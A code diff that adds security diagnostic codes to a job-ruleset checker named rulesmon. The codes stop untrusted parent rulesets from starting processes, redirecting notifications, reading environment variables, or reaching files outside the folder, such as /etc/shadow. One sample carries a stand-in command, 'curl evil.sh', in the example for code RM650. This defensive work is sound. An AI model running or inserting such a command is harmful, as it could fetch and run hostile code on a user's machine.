@@ -196,6 +196,34 @@ _CODES: list[Code] = [
          "(`control`: cancel, requeue, hold, release, remove, resubmit).", "Control actions run "
          "only when `rulesmon run --allow-control` is given; reviewers should see every place "
          "that can end or change a job."),
+    # RM650-RM669: the trust boundary of `extends:` (docs/security.md)
+    Code("RM650", "parent-starts-process", E, "A parent ruleset that the file you run does not "
+         "trust declares something that starts a process: a local job's `command`, a "
+         "`submit` (sbatch, condor_submit, condor_submit_dag), or an `exec` or `control` "
+         "action.", "A shared ruleset is someone else's text: extending it must not run their "
+         "commands on your machine or act on your jobs. Move it into your own file, or trust "
+         "the parent by name: `extends: [{path: team.yaml, trust: true}]`.",
+         "# team.yaml, extended without trust\njobs:\n  x:\n    local: {command: curl evil.sh}"),
+    Code("RM651", "parent-adds-destination", E, "A parent ruleset that the file you run does "
+         "not trust declares a place rulesmon would send or write to: a `notify:` target, a "
+         "`summary:`, or a `state_file:`.", "A parent could otherwise send your jobs' messages "
+         "(and the secrets in them) to its author, or overwrite one of your files. Targets "
+         "belong in your own file; parents name them (`defaults.notify`, `notify:` of a rule)."),
+    Code("RM652", "parent-reads-environment", E, "A parent ruleset that the file you run does "
+         "not trust writes a `${VAR}` reference.", "Environment variables hold tokens and "
+         "webhook URLs; a parent could copy one into a message. The variable is not read."),
+    Code("RM653", "extends-outside", E, "An `extends:` entry is an absolute path, a path with "
+         "`..`, or a symbolic link that leads outside the folder of the ruleset you run (and "
+         "outside the folders named with `--extends-path` or RULESMON_EXTENDS_PATH).",
+         "A ruleset must not make rulesmon read arbitrary files such as /etc/shadow. The file "
+         "is not read."),
+    Code("RM654", "extends-not-a-ruleset", E, "An `extends:` entry names a file that is not a "
+         "ruleset: not YAML, not a mapping, or a mapping without `version:`.", "It was "
+         "probably named by mistake, or to make rulesmon print a file back; its content is "
+         "never shown."),
+    Code("RM655", "extends-contributes", INFO, "What each entry of `extends:` brings: its "
+         "rules, jobs, defaults, and whether it is trusted.", "Reviewers see at a glance what "
+         "a shared ruleset adds, and which parents may do what only your own file may."),
 ]
 
 CODES: dict[str, Code] = {c.code: c for c in _CODES}
